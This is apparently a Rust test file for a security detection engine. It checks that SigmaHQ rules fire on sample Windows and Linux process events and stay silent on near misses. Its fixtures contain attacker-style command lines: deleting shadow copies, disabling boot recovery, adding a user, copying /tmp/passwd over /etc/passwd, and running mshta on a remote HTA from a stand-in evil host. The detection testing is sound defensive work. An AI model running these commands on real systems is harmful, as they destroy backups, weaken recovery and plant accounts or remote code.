//! SigmaHQ process-creation rules, unmodified (tests/rules/sigmahq), on
//! `endpoint.process.created` events through the shipped mapping: each rule
//! fires on an event built for it and stays silent on near misses (one field
//! changed, its filter hit, another operating system). Every event and every
//! finding passes the contracts gate, so the events are ones a sensor could
//! really publish.

use secbus::{Event, EventType, Gate, TenantId};
use secbus_contracts::{ContractsConfig, ContractsGate};
use secbus_detect::{Detector, Mapping, RuleSet, StateLimits, finding_event};
use serde_json::{Map, Value, json};

const CERTUTIL_DECODE: &str = "cc9cbe82-7bc0-4ef5-bc23-bbfb83947be7";
const BCDEDIT_TAMPER: &str = "1444443e-6757-43e4-9ea4-c8fc705f79a2";
const CURL_USER_AGENT: &str = "85de1f22-d189-44e4-8239-dc276b45379b";
const OFFICE_USERS_EXE: &str = "aa3a6f94-890e-4e22-b634-ffdfd54792cc";
const RUNDLL32_NO_PARAMS: &str = "1775e15e-b61b-4d14-a1a3-80981298085a";
const MSHTA_HTTP: &str = "b98d0db6-511d-45de-ad02-e82a98729620";
const NET_USER_ADD: &str = "cd219ff3-fa99-45d4-8380-a7d15116c6dc";
const SHADOW_DELETE: &str = "c947b146-0abc-4c87-9c64-b17e9d7274a2";
const WHOAMI_PRIVILEGED: &str = "79ce34ca-af29-4d0e-b832-fc1b377020db";
const LNX_CP_PASSWD_TMP: &str = "fa4aaed5-4fe0-498d-bbc0-08e3346387ba";
const LNX_BASE64_DECODE: &str = "e2072cab-8c9a-459b-b63c-40ae79e27031";

const WINWORD: &str = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
const EXPLORER: &str = r"C:\Windows\explorer.exe";

fn rules() -> RuleSet {
    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/rules/sigmahq");
    RuleSet::load(&[dir.into()]).unwrap()
}

struct Case {
    detector: Detector,
    gate: ContractsGate,
}

impl Case {
    fn new() -> Case {
        let rules = rules();
        assert!(rules.failures.is_empty(), "{:?}", rules.failures);
        Case {
            detector: Detector::new(&rules, Mapping::shipped(), StateLimits::default()).unwrap(),
            gate: ContractsGate::from_config(&ContractsConfig::default()).unwrap(),
        }
    }

    /// The ids of the rules that fire on `proc`, sorted; the event and each
    /// finding must pass the contracts gate.
    fn fired(&mut self, proc: Proc) -> Vec<String> {
        let mut event = Event::builder(
            EventType::new("endpoint.process.created").unwrap(),
            TenantId::new("acme").unwrap(),
        )
        .source("edr/test")
        .data(Value::Object(proc.0))
        .build()
        .unwrap();
        self.gate
            .check(&mut event)
            .unwrap_or_else(|e| panic!("the event breaks its contract: {e}"));
        let findings = self.detector.process(&event);
        for f in &findings {
            let mut published = finding_event(f, &event).unwrap();
            self.gate.check(&mut published).unwrap_or_else(|e| {
                panic!("the finding of {} breaks its contract: {e}", f.rule_id)
            });
        }
        let mut ids: Vec<String> = findings.into_iter().map(|f| f.rule_id).collect();
        ids.sort();
        ids
    }

    fn assert_fires(&mut self, proc: Proc, expected: &[&str]) {
        let what = proc.0["command_line"].clone();
        let mut expected: Vec<String> = expected.iter().map(|s| (*s).to_owned()).collect();
        expected.sort();
        assert_eq!(self.fired(proc), expected, "rules fired on {what}");
    }
}

/// The data of an `endpoint.process.created` event.
struct Proc(Map<String, Value>);

impl Proc {
    fn windows(image: &str, command_line: &str) -> Proc {
        Proc::new("windows", image, command_line)
            .with("host", "ws-0142.acme.local")
            .with("user", r"ACME\bob")
            .with("parent_image", EXPLORER)
    }

    fn linux(image: &str, command_line: &str) -> Proc {
        Proc::new("linux", image, command_line)
            .with("host", "build-07")
            .with("user", "root")
            .with("parent_image", "/usr/bin/bash")
    }

    fn new(os: &str, image: &str, command_line: &str) -> Proc {
        let mut m = Map::new();
        m.insert("os".into(), json!(os));
        m.insert("image".into(), json!(image));
        m.insert("command_line".into(), json!(command_line));
        m.insert("process_id".into(), json!(4242));
        Proc(m)
    }

    fn with(mut self, field: &str, value: &str) -> Proc {
        self.0.insert(field.into(), json!(value));
        self
    }

    /// The same process reported by a sensor on another operating system.
    fn on(self, os: &str) -> Proc {
        self.with("os", os)
    }
}

#[test]
fn every_sample_rule_loads() {
    let rules = rules();
    assert!(rules.failures.is_empty(), "{:?}", rules.failures);
    assert_eq!(rules.loaded, 11);
}

#[test]
fn certutil_decode_fires_on_either_dash_and_on_a_renamed_binary() {
    let mut c = Case::new();
    let certutil = r"C:\Windows\System32\certutil.exe";
    c.assert_fires(
        Proc::windows(certutil, "certutil.exe -decode payload.b64 payload.exe"),
        &[CERTUTIL_DECODE],
    );
    // `|windash`: the slash form of the flag matches too.
    c.assert_fires(
        Proc::windows(certutil, "certutil.exe /decode payload.b64 payload.exe"),
        &[CERTUTIL_DECODE],
    );
    // Renamed: only OriginalFileName tells.
    c.assert_fires(
        Proc::windows(r"C:\ProgramData\cu.exe", "cu.exe -decodehex a.hex a.bin")
            .with("original_file_name", "CertUtil.exe"),
        &[CERTUTIL_DECODE],
    );
    c.assert_fires(
        Proc::windows(certutil, "certutil.exe -encode payload.exe payload.b64"),
        &[],
    );
    c.assert_fires(
        Proc::windows(certutil, "certutil.exe -decode payload.b64 payload.exe").on("linux"),
        &[],
    );
}

#[test]
fn bcdedit_fires_only_when_every_word_of_one_pair_is_there() {
    let mut c = Case::new();
    let bcdedit = r"C:\Windows\System32\bcdedit.exe";
    c.assert_fires(
        Proc::windows(bcdedit, "bcdedit.exe /set {default} recoveryenabled no"),
        &[BCDEDIT_TAMPER],
    );
    c.assert_fires(
        Proc::windows(
            bcdedit,
            "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures",
        ),
        &[BCDEDIT_TAMPER],
    );
    // `|all`: one word of the pair is not enough.
    c.assert_fires(
        Proc::windows(bcdedit, "bcdedit.exe /set {default} recoveryenabled yes"),
        &[],
    );
    c.assert_fires(
        Proc::windows(
            bcdedit,
            "bcdedit.exe /set {default} bootstatuspolicy displayallfailures",
        ),
        &[],
    );
}

#[test]
fn curl_user_agent_regex_is_case_sensitive() {
    let mut c = Case::new();
    let curl = r"C:\Windows\System32\curl.exe";
    c.assert_fires(
        Proc::windows(
            curl,
            r#"curl.exe -H "User-Agent: EvilAgent" http://malicious.example.com"#,
        ),
        &[CURL_USER_AGENT],
    );
    c.assert_fires(
        Proc::windows(
            curl,
            r#"curl.exe --header "User-Agent: EvilAgent" https://malicious.example.com"#,
        ),
        &[CURL_USER_AGENT],
    );
    // `|re` is case-sensitive: `-h` is curl's help flag, not a header.
    c.assert_fires(
        Proc::windows(
            curl,
            r#"curl.exe -h "User-Agent: EvilAgent" http://malicious.example.com"#,
        ),
        &[],
    );
    c.assert_fires(
        Proc::windows(curl, "curl.exe -H Accept:text/html http://example.com"),
        &[],
    );
}

#[test]
fn an_office_child_from_a_user_folder_fires_unless_it_is_teams() {
    let mut c = Case::new();
    c.assert_fires(
        Proc::windows(
            r"C:\Users\bob\AppData\Local\Temp\invoice.exe",
            r"C:\Users\bob\AppData\Local\Temp\invoice.exe",
        )
        .with("parent_image", WINWORD),
        &[OFFICE_USERS_EXE],
    );
    // The filter: `selection and not filter`.
    c.assert_fires(
        Proc::windows(
            r"C:\Users\bob\AppData\Local\Microsoft\Teams\current\Teams.exe",
            r"C:\Users\bob\AppData\Local\Microsoft\Teams\current\Teams.exe --process-start-args",
        )
        .with("parent_image", WINWORD),
        &[],
    );
    c.assert_fires(
        Proc::windows(
            r"C:\Users\bob\AppData\Local\Temp\invoice.exe",
            r"C:\Users\bob\AppData\Local\Temp\invoice.exe",
        ),
        &[],
    );
}

#[test]
fn rundll32_without_arguments_fires_unless_its_parent_is_filtered() {
    let mut c = Case::new();
    let rundll32 = r"C:\Windows\System32\rundll32.exe";
    c.assert_fires(Proc::windows(rundll32, rundll32), &[RUNDLL32_NO_PARAMS]);
    c.assert_fires(
        Proc::windows(rundll32, rundll32).with(
            "parent_image",
            r"C:\Users\bob\AppData\Local\Temp\loader.exe",
        ),
        &[],
    );
    c.assert_fires(
        Proc::windows(
            rundll32,
            r"C:\Windows\System32\rundll32.exe shell32.dll,Control_RunDLL",
        ),
        &[],
    );
}

#[test]
fn mshta_fires_on_a_remote_hta_only() {
    let mut c = Case::new();
    let mshta = r"C:\Windows\System32\mshta.exe";
    c.assert_fires(
        Proc::windows(mshta, "mshta.exe https://evil.example.com/payload.hta"),
        &[MSHTA_HTTP],
    );
    c.assert_fires(Proc::windows(mshta, r"mshta.exe C:\Temp\local.hta"), &[]);
}

#[test]
fn net_user_add_fires_for_net_and_net1() {
    let mut c = Case::new();
    c.assert_fires(
        Proc::windows(r"C:\Windows\System32\net.exe", "net user eve /add"),
        &[NET_USER_ADD],
    );
    c.assert_fires(
        Proc::windows(r"C:\Windows\System32\net1.exe", "net1 user eve /add")
            .with("original_file_name", "net1.exe"),
        &[NET_USER_ADD],
    );
    c.assert_fires(
        Proc::windows(r"C:\Windows\System32\net.exe", "net user eve"),
        &[],
    );
}

#[test]
fn shadow_copy_deletion_fires_for_vssadmin_and_wbadmin() {
    let mut c = Case::new();
    c.assert_fires(
        Proc::windows(
            r"C:\Windows\System32\vssadmin.exe",
            "vssadmin.exe delete shadows /all /quiet",
        ),
        &[SHADOW_DELETE],
    );
    c.assert_fires(
        Proc::windows(
            r"C:\Windows\System32\wbadmin.exe",
            "wbadmin.exe delete catalog -quiet",
        ),
        &[SHADOW_DELETE],
    );
    c.assert_fires(
        Proc::windows(
            r"C:\Windows\System32\vssadmin.exe",
            "vssadmin.exe list shadows",
        ),
        &[],
    );
}

#[test]
fn whoami_fires_when_run_as_system() {
    let mut c = Case::new();
    let whoami = r"C:\Windows\System32\whoami.exe";
    c.assert_fires(
        Proc::windows(whoami, "whoami /all").with("user", r"NT AUTHORITY\SYSTEM"),
        &[WHOAMI_PRIVILEGED],
    );
    c.assert_fires(Proc::windows(whoami, "whoami /all"), &[]);
}

#[test]
fn one_process_can_raise_two_rules() {
    let mut c = Case::new();
    c.assert_fires(
        Proc::windows(r"C:\Users\Public\whoami.exe", "whoami /priv")
            .with("parent_image", WINWORD)
            .with("user", r"NT AUTHORITY\SYSTEM"),
        &[OFFICE_USERS_EXE, WHOAMI_PRIVILEGED],
    );
}

#[test]
fn linux_rules_fire_on_linux_events_only() {
    let mut c = Case::new();
    c.assert_fires(
        Proc::linux("/usr/bin/cp", "cp /tmp/passwd /etc/passwd"),
        &[LNX_CP_PASSWD_TMP],
    );
    c.assert_fires(
        Proc::linux("/usr/bin/cp", "cp /home/bob/passwd.bak /etc/passwd"),
        &[],
    );
    c.assert_fires(
        Proc::linux("/usr/bin/cp", "cp /tmp/passwd /etc/passwd").on("windows"),
        &[],
    );
    c.assert_fires(
        Proc::linux("/usr/bin/base64", "base64 -d /tmp/payload.b64"),
        &[LNX_BASE64_DECODE],
    );
    c.assert_fires(Proc::linux("/usr/bin/base64", "base64 /etc/hostname"), &[]);
    c.assert_fires(
        Proc::linux("/usr/bin/base64", "base64 -d /tmp/payload.b64").on("macos"),
        &[],
    );
}

#[test]
fn a_sample_finding_carries_the_rule_level_tags_and_category() {
    let mut c = Case::new();
    let event = Event::builder(
        EventType::new("endpoint.process.created").unwrap(),
        TenantId::new("acme").unwrap(),
    )
    .source("edr/test")
    .data(Value::Object(
        Proc::windows(
            r"C:\Windows\System32\mshta.exe",
            "mshta.exe http://x.example/a.hta",
        )
        .0,
    ))
    .build()
    .unwrap();
    let findings = c.detector.process(&event);
    assert_eq!(findings.len(), 1);
    let f = &findings[0];
    assert_eq!(f.title, "Remotely Hosted HTA File Executed Via Mshta.EXE");
    assert_eq!(f.level, "high");
    assert_eq!(f.category.as_deref(), Some("process_creation"));
    assert!(
        f.tags.iter().any(|t| t == "attack.t1218.005"),
        "{:?}",
        f.tags
    );
}
